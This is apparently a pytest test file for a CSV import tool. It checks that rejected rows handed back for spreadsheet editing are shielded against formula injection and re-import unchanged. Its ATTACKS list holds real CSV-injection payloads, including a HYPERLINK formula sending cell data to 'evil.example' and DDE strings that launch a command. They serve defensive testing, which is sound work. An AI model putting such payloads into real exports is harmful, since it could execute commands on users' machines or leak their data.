"""Rejected rows opened in a spreadsheet calculate nothing, and come back into an import as they were."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from plumbline.imports.chunks import Chunk, read_chunk
from plumbline.imports.formulas import shield, unshield
from plumbline.imports.lines import Lines
from plumbline.imports.reader import RecordReader
from plumbline.imports.rejected import head
from plumbline.imports.source import recognise

from tests.support.imports import UPLOADED_AT

HOSTILE = st.text(st.sampled_from("'=+-@\t\r\n,;|\"ab \uff1d\uff0b"), max_size=10)
FORMULA = re.compile(r"[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]")
ATTACKS = [
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+9)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "x;=1+1",
    "x\n=1+1",
    'x";=1+1;"',
    "'=1+1",
    "''=1+1",
    '"=1+1',
]


def imported(data: bytes) -> Chunk:
    source = recognise(io.BytesIO(data), "rows.csv")
    lines = Lines(io.BytesIO(data[source.begins.byte :]))
    reader = RecordReader(lines, source.begins, source.dialect.width, source.dialect.delimiter)
    end = [source.begins, *(reader.position for _ in reader.steps())][-1]
    return read_chunk(io.BytesIO(data[source.begins.byte :]), source, 1, source.begins, end, UPLOADED_AT)


def handed_out(data: bytes) -> bytes:
    """The file of the rows that could not be used."""
    return head(recognise(io.BytesIO(data), "rows.csv")) + imported(data).rejected_rows


def table(rows: list[list[str]]) -> bytes:
    out = io.StringIO(newline="")
    csv.writer(out).writerows(rows)
    return out.getvalue().encode()


def cells(file: bytes, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(file.decode(), newline=""), delimiter=delimiter))


def rejected(*texts: str) -> bytes:
    """A file whose rows have these inputs and cannot be used."""
    return table([["Input", "Output", "created_at"], *([text, text, "no date"] for text in texts)])


@given(HOSTILE)
def test_every_cell_comes_back_and_none_is_a_formula(cell: str) -> None:
    assert unshield(shield(cell)) == cell
    assert not FORMULA.match(shield(cell))


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_of_the_rejected_rows_is_a_formula(attack: str) -> None:
    rows = cells(handed_out(rejected(attack)))
    assert unshield(rows[1][0]) == attack
    assert not any(FORMULA.match(cell) for row in rows for cell in row)


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("delimiter", [";", "\t", "|"])
def test_nor_is_one_where_a_spreadsheet_takes_another_character_for_the_delimiter(
    attack: str, delimiter: str
) -> None:
    """European spreadsheets split files at semicolons, whatever the file is separated by."""
    rows = cells(handed_out(rejected(attack)), delimiter)
    assert not any(FORMULA.match(cell) for row in rows for cell in row)


@given(st.lists(HOSTILE, min_size=1, max_size=4))
def test_rows_that_are_mended_are_imported_as_they_were(texts: list[str]) -> None:
    rows = cells(handed_out(rejected(*texts)))
    for row in rows[1:]:
        row[2] = ""
    assert [row.input for row in imported(table(rows)).rows] == texts


@given(st.lists(HOSTILE, min_size=1, max_size=4))
def test_rows_that_are_not_mended_come_out_the_same_again(texts: list[str]) -> None:
    once = handed_out(rejected(*texts))
    twice = handed_out(once)
    assert [row[:3] for row in cells(twice)] == [row[:3] for row in cells(once)]


def test_a_row_without_cells_is_repeated_so_too() -> None:
    data = b'Input,Output\n=1+1,"a"b\n'
    once = handed_out(data)
    assert cells(once)[1][0] == '\'=1+1,"a"b'
    assert imported(once).rows[0].input == '=1+1,"a"b'


@pytest.mark.parametrize("name", ["=1+1", "'=1+1", "a;=1+1"])
def test_names_of_columns_are_cells_too(name: str) -> None:
    data = table([["Input", "Output", name], ["q", "a"], ["q", "a"]])
    file = handed_out(data)
    assert not any(FORMULA.match(cell) for cell in cells(file)[0])
    rows = cells(file)
    rows[1][2] = rows[2][2] = "-5"
    back = imported(table(rows))
    assert [row.metadata for row in back.rows] == [{name: "-5"}] * 2


def test_a_file_of_ones_own_is_read_as_it_is() -> None:
    found = imported(table([["Input", "Output"], ["'=1+1", "=1+1"]]))
    assert [(row.input, row.output) for row in found.rows] == [("'=1+1", "=1+1")]
